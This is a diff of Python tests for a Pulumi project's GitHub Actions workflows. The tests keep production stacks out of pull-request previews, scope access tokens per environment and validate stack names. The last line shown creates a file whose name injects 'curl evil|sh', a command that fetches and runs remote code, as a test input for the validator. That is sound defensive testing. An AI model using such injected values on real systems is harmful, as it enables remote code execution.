@@ -21,6 +21,7 @@ from tests.harness import ROOT
 WORKFLOWS = ROOT / ".github" / "workflows"
 LINTER = ROOT / ".ci" / "actionlint"
 STACKS = sorted(p.name[len("Pulumi."):-len(".yaml")] for p in ROOT.glob("Pulumi.*.yaml"))
+PRODUCTION = {"prod", "team-vision"}  # prod, and the team stack whose team takes the prod policies
 
 
 def _load(name: str) -> dict[str, Any]:
@@ -93,7 +94,10 @@ def test_previews_run_the_policy_pack_with_each_stacks_config_and_never_for_fork
     job = workflow["jobs"]["preview"]
     gate = workflow["jobs"]["stacks"]["if"]
     assert "head.repo.full_name == github.repository" in gate and "vars.PULUMI_PREVIEW" in gate
-    assert job["needs"] == "stacks" and _listed(workflow, "stacks") == STACKS  # the teams' stacks included
+    # Every stack but the production ones (issue 41: a preview runs the branch's code with the
+    # stack's secrets decrypted): prod and the team stacks on the prod policies.
+    assert job["needs"] == "stacks" and _listed(workflow, "stacks") == [s for s in STACKS if s not in PRODUCTION]
+    assert "dev" in _listed(workflow, "stacks")
     assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(needs.stacks.outputs.list) }}"
     assert job["concurrency"]["group"] == "pulumi-${{ matrix.stack }}"
     assert job["permissions"]["id-token"] == "write"  # AWS by OIDC
@@ -160,13 +164,18 @@ def test_zizmor_finds_nothing_unexplained_and_catches_an_injection(tmp_path: Pat
 
 
 def test_credentials_stay_scoped_read_only_and_named() -> None:
-    """Previews and drift checks run inside the `preview` environment (read-only keys); no
-    checkout leaves its token in .git/config; reusable-workflow calls pass secrets by name; no
-    `${{ }}` expression is interpolated into a script (values reach scripts through env)."""
-    for name in ("preview.yml", "drift.yml"):
+    """Previews run inside the `preview` environment (read-only keys, a Pulumi token that cannot
+    read production stacks), drift checks inside `drift` (main's code only; its token may read
+    every stack); no checkout leaves its token in .git/config; reusable-workflow calls pass
+    secrets by name; no `${{ }}` expression is interpolated into a script (values reach scripts
+    through env)."""
+    for name, environment in (("preview.yml", "preview"), ("drift.yml", "drift")):
         job = _load(name)["jobs"]["preview" if name == "preview.yml" else "drift"]
-        assert job["environment"] == "preview"
+        assert job["environment"] == environment
         env = next(s for s in _steps(job) if s.get("uses", "").startswith("pulumi/actions@"))["env"]
+        token = env.pop("PULUMI_ACCESS_TOKEN")
+        assert token == ("${{ secrets.PULUMI_PREVIEW_ACCESS_TOKEN }}" if environment == "preview"
+                         else "${{ secrets.PULUMI_DRIFT_ACCESS_TOKEN }}"), token
         assert all("PREVIEW" in v for k, v in env.items()), env
     declared = set(_load("pulumi-up.yml")["on"]["workflow_call"]["secrets"])
     for path in WORKFLOWS.glob("*.yml"):
@@ -182,10 +191,13 @@ def test_credentials_stay_scoped_read_only_and_named() -> None:
 
 def test_stack_names_from_file_names_are_validated(tmp_path: Path) -> None:
     """A stack file name becomes a matrix value that reaches commands (through env): the listing
-    step refuses anything but [a-z0-9-]."""
+    step refuses anything but [a-z0-9-]; and a pull request's list leaves out every stack on the
+    prod policies, however it is named."""
     (step,) = [s for s in _steps(_load("preview.yml")["jobs"]["stacks"]) if s.get("id") == "list"]
-    command = step["run"].split(" >> ")[0]
+    command = step["run"].split(" >> ")[0].replace(".ci/stacks.py", str(ROOT / ".ci/stacks.py"))
     (tmp_path / "Pulumi.dev.yaml").write_text("config: {}\n")
+    (tmp_path / "Pulumi.live.yaml").write_text("config:\n  gpu-training-stack:env: prod\n")
+    (tmp_path / "Pulumi.team-x.yaml").write_text("config:\n  gpu-training-stack:team:\n    name: x\n    policies: prod\n")
     ok = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True, text=True)
     assert ok.returncode == 0 and ok.stdout.strip() == 'list=["dev"]'
     (tmp_path / 'Pulumi.x";curl evil|sh;".yaml').write_text("config: {}\n")
